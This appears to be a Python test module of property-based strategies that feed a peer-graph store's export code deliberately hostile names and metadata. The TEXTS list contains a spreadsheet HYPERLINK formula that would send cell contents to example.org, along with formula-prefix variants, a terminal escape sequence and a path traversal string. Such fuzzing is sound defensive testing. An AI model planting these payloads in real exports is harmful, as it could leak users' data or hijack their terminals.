"""Histories whose names, keys and metadata try to break whatever they are written to, from year 1 to year 9999."""

from __future__ import annotations

import random
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, datetime, timedelta
from typing import Any

import hypothesis.strategies as st

import peerstore
from peerstore.exporting.source import Options, Selection, Source
from tests.conftest import drop_url, fresh_url
from tests.strategies import OBSERVER, graphs

TEXTS = (
    "",
    " ",
    "'",
    "''quoted'",
    '=HYPERLINK("http://example.org/?"&A1,"till")',
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\uff1d1",
    "\uff0b1",
    "\uff0d1",
    "\uff201",
    "a\0b",
    "\\u0000",
    "\ud800",
    "\x1b]0;title\x07\x9b2J",
    "one,two;three\tfour",
    'she said "hi"\r\nand\nleft\r',
    "\u2028\x85\ufffe\ufeff]]>",
    "../../x",
    "NULL",
    "true",
    "1e5",
    "厨房 🍕",
)
MIDNIGHT = datetime(2026, 7, 9, tzinfo=UTC)
MICROSECOND = timedelta(microseconds=1)
MOMENTS = (
    datetime.min.replace(tzinfo=UTC),
    datetime(1969, 12, 31, 23, 59, 59, 999_999, tzinfo=UTC),
    *(MIDNIGHT + steps * timedelta(hours=5) for steps in range(-8, 8)),
    MIDNIGHT - MICROSECOND,
    MIDNIGHT + MICROSECOND,
    datetime.max.replace(tzinfo=UTC),
)

Told = list[dict[str, Any]]
texts = st.sampled_from(TEXTS)
keys = st.sampled_from([text for text in TEXTS if text and not {"\0", "\ud800"} & set(text)])


@st.composite
def strange_graphs(draw: st.DrawFn) -> dict[str, Any]:
    """A graph of a few peers, every text of which is strange."""
    others = draw(st.lists(keys, max_size=3, unique=True))
    named: list[dict[str, Any]] = [
        {"peerKeyString": key, "deviceName": draw(texts), "os": draw(texts)} for key in [OBSERVER, *others]
    ]
    for peer in named:
        peer["peerMetadata"] = {draw(texts): draw(st.one_of(texts, st.integers(-(2**70), 2**70), st.floats(-9, 9)))}
    links = [
        {"id": draw(keys), "peer1": OBSERVER, "peer2": key, "connectionType": draw(st.sampled_from(("", "=1", "LAN")))}
        for key in others
    ]
    return {"localPeer": {**named[0], "connections": links}, "remotePeers": named[1:]}


@st.composite
def strange_histories(draw: st.DrawFn) -> Told:
    """A few observations on many days, as envelopes."""
    moments = draw(st.lists(st.sampled_from(MOMENTS), min_size=1, max_size=8, unique=True))
    graph = st.one_of(strange_graphs(), strange_graphs(), graphs(), st.none())
    return [{"observed_at": moment, "observer": OBSERVER, "graph": draw(graph)} for moment in moments]


@contextmanager
def told_to_source(
    told: Told, selection: Selection | None = None, options: Options | None = None, engine: str = "sqlite"
) -> Iterator[Source]:
    """What an export of these observations reads."""
    url = fresh_url(engine)
    try:
        with peerstore.open(url, clock=lambda: MIDNIGHT) as store:
            store.record_many(told)
            with store.snapshot() as snapshot:
                yield Source(snapshot, selection or Selection(), options or Options())
    finally:
        drop_url(url)


def shuffled_and_repeated(told: Told, seed: int) -> Told:
    """The same observations recorded in another order, some of them twice."""
    source = random.Random(seed)
    again = [*told, *source.sample(told, len(told) // 2)]
    source.shuffle(again)
    return again
